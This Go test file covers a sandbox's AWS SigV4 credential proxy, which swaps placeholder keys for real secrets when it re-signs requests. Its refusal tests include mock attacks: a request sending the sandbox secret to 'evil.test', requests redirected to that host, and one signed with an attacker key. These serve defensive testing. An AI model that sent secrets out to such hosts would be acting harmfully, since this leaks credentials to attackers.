package credential

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/bailey-sandbox/bailey/internal/hostname"
)

const emptyHash = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

// The examples of Amazon's documentation: IAM's of "Signature Version 4 signing process", and S3's of "Authenticating
// requests using the Authorization header".
func TestSignaturesOfTheDocumentation(t *testing.T) {
	for _, test := range []struct {
		method, url, secret, hash, authorization string
		header                                   []string
		doubled                                  bool
	}{
		{"GET", "https://iam.amazonaws.com/?Action=ListUsers&Version=2010-05-08", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY", emptyHash,
			"AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
			[]string{"Content-Type", "application/x-www-form-urlencoded; charset=utf-8", "X-Amz-Date", "20150830T123600Z"}, true},
		{"GET", "https://examplebucket.s3.amazonaws.com/test.txt", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", emptyHash,
			"AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request,SignedHeaders=host;range;x-amz-content-sha256;x-amz-date,Signature=f0e8bdb87c964420e857bd35b5d6ed310bd44f0170aba48dd91039c6036bdb41",
			[]string{"Range", "bytes=0-9", "X-Amz-Content-Sha256", emptyHash, "X-Amz-Date", "20130524T000000Z"}, false},
		{"GET", "https://examplebucket.s3.amazonaws.com/?lifecycle", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", emptyHash,
			"AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request,SignedHeaders=host;x-amz-content-sha256;x-amz-date,Signature=fea454ca298b7da1c68078a5d1bdbfbbe0d65c699e0f91ac7a200a0136783543",
			[]string{"X-Amz-Content-Sha256", emptyHash, "X-Amz-Date", "20130524T000000Z"}, false},
	} {
		s, ok, err := parseSignature(test.authorization)
		if !ok || err != nil {
			t.Fatal(err)
		}
		if got := s.sign(request(t, test.method, test.url, nil, test.header...), test.secret, test.hash, test.doubled); got != s.hex {
			t.Errorf("%s: %s, want %s", test.url, got, s.hex)
		}
	}
}

// newAWS is a lab whose secret signs.
func newAWS(t *testing.T, place string) *lab {
	t.Helper()
	l := newLab(t)
	p, err := ParsePlace(place)
	if err != nil {
		t.Fatal(err)
	}
	host, _ := hostname.ParsePattern("*.amazonaws.com")
	cfg := l.keeper.cfg
	cfg.Secrets = []Secret{{Name: "aws", Placeholder: "AKIAPLACEHOLDER12345:secretofthesandboxsecretofthesandbox1234", Bindings: []Binding{{Host: host, Port: 443, As: []Place{p}}},
		Value: func(context.Context) (string, error) {
			return "AKIAREALREALREALREAL:the/real+secret/key/of/forty/characters00:the-session-token", nil
		}}}
	l.keeper = NewKeeper(cfg)
	return l
}

// signed makes a request as a client does that has key.
func signed(t *testing.T, method, url, body, key, secret, scope string) *http.Request {
	t.Helper()
	sum := sha256.Sum256([]byte(body))
	r := request(t, method, url, strings.NewReader(body), "X-Amz-Date", "20260101T000000Z", "X-Amz-Content-Sha256", hex.EncodeToString(sum[:]))
	sign(r, key, secret, scope)
	return r
}

func sign(r *http.Request, key, secret, scope string) {
	region, service, _ := strings.Cut(scope, "/")
	s := signature{key: key, date: "20260101", region: region, service: service, headers: []string{"host", "x-amz-content-sha256", "x-amz-date"}}
	r.Header.Set("Authorization", fmt.Sprintf("AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=%s, Signature=%s", s.key, s.scope(), strings.Join(s.headers, ";"),
		s.sign(r, secret, r.Header.Get("X-Amz-Content-Sha256"), service != "s3")))
}

const (
	standsKey    = "AKIAPLACEHOLDER12345"
	standsSecret = "secretofthesandboxsecretofthesandbox1234"
)

func TestSignedRequestsAreSignedAnew(t *testing.T) {
	for _, scope := range []string{"eu-central-1/s3", "us-east-1/dynamodb"} {
		l := newAWS(t, "sigv4")
		if _, err := l.send(signed(t, "PUT", "https://bucket.s3.amazonaws.com/a%20file?x=1&a=b%2Fc", "the body", standsKey, standsSecret, scope)); err != nil {
			t.Fatalf("%s: %v", scope, err)
		}
		s, ok, err := parseSignature(l.head.Get("Authorization"))
		if !ok || err != nil || s.key != "AKIAREALREALREALREAL" || l.head.Get("X-Amz-Security-Token") != "the-session-token" || l.body != "the body" {
			t.Fatalf("%s: went on: %v, %q, %v", scope, l.head, l.body, err)
		}
		arrived := request(t, "PUT", l.url, nil)
		arrived.Header = l.head
		if want := s.sign(arrived, "the/real+secret/key/of/forty/characters00", l.head.Get("X-Amz-Content-Sha256"), s.service != "s3"); s.hex != want {
			t.Errorf("%s: the signature is %s, want %s", scope, s.hex, want)
		}
		for name, values := range l.head {
			if strings.Contains(strings.Join(values, ""), standsKey) {
				t.Errorf("%s: the header %s has the placeholder", scope, name)
			}
		}
	}
}

func TestSignedRequestsThatAreRefused(t *testing.T) {
	const url = "https://bucket.s3.amazonaws.com/file"
	ok := func() *http.Request {
		return signed(t, "PUT", url, "the body", standsKey, standsSecret, "eu-central-1/s3")
	}
	change := func(change func(r *http.Request)) *http.Request { r := ok(); change(r); return r }
	for name, r := range map[string]*http.Request{
		"another path":         change(func(r *http.Request) { r.URL.Path = "/other" }),
		"another method":       change(func(r *http.Request) { r.Method = "DELETE" }),
		"another parameter":    change(func(r *http.Request) { r.URL.RawQuery = "acl" }),
		"another body":         change(func(r *http.Request) { r.Body = io.NopCloser(strings.NewReader("other body")) }),
		"another signature":    signed(t, "PUT", url, "the body", standsKey, "not the sandbox's", "eu-central-1/s3"),
		"another scope":        signed(t, "PUT", url, "the body", standsKey, standsSecret, "us-east-1/s3"),
		"another host":         signed(t, "PUT", "https://evil.test/file", "the body", standsKey, standsSecret, "eu-central-1/s3"),
		"another key":          signed(t, "PUT", url, "the body", "AKIAATTACKERS0000000", "attackers", "eu-central-1/s3"),
		"cleartext":            signed(t, "PUT", "http://bucket.s3.amazonaws.com/file", "the body", standsKey, standsSecret, "eu-central-1/s3"),
		"a presigned address":  request(t, "GET", url+"?X-Amz-Credential="+standsKey+"%2F20260101", nil),
		"the key, malformed":   request(t, "GET", url, nil, "Authorization", "AWS4-HMAC-SHA256 Credential="+standsKey),
		"the secret in a body": request(t, "POST", "https://evil.test/", strings.NewReader(standsSecret)),
		"signed pieces": change(func(r *http.Request) {
			r.Header.Set("X-Amz-Content-Sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD")
			sign(r, standsKey, standsSecret, "eu-central-1/s3")
		}),
	} {
		l := newAWS(t, "sigv4:eu-central-1/s3")
		var refusal *Refusal
		if _, err := l.send(r); !errors.As(err, &refusal) || strings.Contains(l.head.Get("Authorization"), "REAL") && name != "another body" {
			t.Errorf("%s: %v, went on %v", name, err, l.head)
		}
	}
	l := newAWS(t, "sigv4:eu-central-1/s3")
	if _, err := l.send(ok()); err != nil {
		t.Errorf("the request as it is: %v", err)
	}
	l = newAWS(t, "sigv4")
	r := change(func(r *http.Request) {
		r.Header.Set("X-Amz-Content-Sha256", unsigned)
		sign(r, standsKey, standsSecret, "eu-central-1/s3")
	})
	if _, err := l.send(r); err != nil || l.body != "the body" {
		t.Errorf("a body that is not signed: %v", err)
	}
}

func FuzzParseSignature(f *testing.F) {
	f.Add("AWS4-HMAC-SHA256 Credential=a/b/c/d/aws4_request, SignedHeaders=host;x-amz-date, Signature=00")
	f.Add("Bearer x")
	f.Fuzz(func(t *testing.T, text string) {
		s, ok, err := parseSignature(text)
		if ok && err == nil && (s.key == "" || len(s.headers) == 0 || strings.Contains(s.scope(), ",")) {
			t.Errorf("%q: %+v", text, s)
		}
	})
}
